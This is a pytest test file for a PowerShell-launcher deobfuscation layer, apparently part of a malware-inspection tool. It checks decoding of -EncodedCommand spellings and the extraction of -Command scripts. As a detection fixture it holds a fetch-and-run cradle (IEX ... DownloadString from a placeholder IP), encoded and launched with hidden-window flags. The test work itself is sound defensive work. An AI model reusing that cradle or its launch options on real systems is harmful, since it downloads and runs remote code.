"""`powershell -EncodedCommand` in every spelling, from PowerShell, cmd and shell artifacts,
and `-Command` scripts lifted out of command lines."""

from __future__ import annotations

import base64

import pytest

from inspector.stage import ScanContext, ScanLimits
from inspector.deobfuscate.ps_launcher import PowerShellLauncherLayer
from inspector.model import ArtifactType
from tests.deobfuscate.peeling import payload_of

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/a')"
BLOB = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()


def analyze(text: str, kind: ArtifactType = ArtifactType.CMD):
    return PowerShellLauncherLayer().analyze(payload_of(text.encode(), kind), ScanContext(ScanLimits()))


PREFIXES = ["-" + "encodedcommand"[:n] for n in range(1, len("encodedcommand") + 1)] + [
    "-ec", "-EC", "-EncodedCommand", "-ENC", "/enc", "/e", "\u2013enc", "\u2014e", "-eNcOdEd"]


@pytest.mark.parametrize("flag", PREFIXES)
def test_every_prefix_of_encoded_command_is_decoded(flag: str) -> None:
    out = analyze(f"cmd /c powershell.exe -NoP -W Hidden {flag} {BLOB}")
    (child,) = out.children
    assert child.data.decode() == SCRIPT
    assert child.origin == "decoded:encoded-command"
    assert child.type_hint == ArtifactType.POWERSHELL
    assert [f.id for f in out.findings] == ["deobf.powershell.encoded_command"]
    assert out.urls == ["http://203.0.113.10/a"]


@pytest.mark.parametrize("kind", [ArtifactType.CMD, ArtifactType.POWERSHELL, ArtifactType.SHELL])
def test_launch_lines_are_found_in_every_script_language(kind: ArtifactType) -> None:
    out = analyze(f'pwsh -nop -e "{BLOB}"', kind)
    assert [c.data.decode() for c in out.children] == [SCRIPT]


def test_span_points_at_the_base64_value() -> None:
    text = f"@echo off\r\npowershell -enc {BLOB}\r\n"
    (child,) = analyze(text).children
    span = child.layer.span
    assert text[span.offset:span.offset + span.length] == BLOB and span.line == 2


def test_dash_e_of_other_programs_is_not_a_launch_line() -> None:
    assert analyze(f"echo -e {BLOB}", ArtifactType.SHELL).children == []
    assert analyze("grep -e SGVsbG8gd29ybGQ= file.txt", ArtifactType.SHELL).children == []


def test_command_argument_is_lifted_out_of_cmd_lines() -> None:
    out = analyze('powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Get-Date; Write-Host \\"hi\\""')
    (child,) = out.children
    assert child.data == b'Get-Date; Write-Host "hi"'
    assert child.origin == "extracted:powershell-command" and child.type_hint == ArtifactType.POWERSHELL
    assert out.findings == []


def test_oversized_blob_is_cut_and_reported() -> None:
    from inspector.deobfuscate.common import DeobfuscationLimits

    big = base64.b64encode(("Write-Host x;" * 4000).encode("utf-16-le")).decode()
    layer = PowerShellLauncherLayer(DeobfuscationLimits(max_child_bytes=4096))
    out = layer.analyze(payload_of(f"powershell -enc {big}".encode(), ArtifactType.CMD), ScanContext(ScanLimits()))
    assert out.children == []
    assert out.errors[0][0] == "limit_deobfuscation_size"
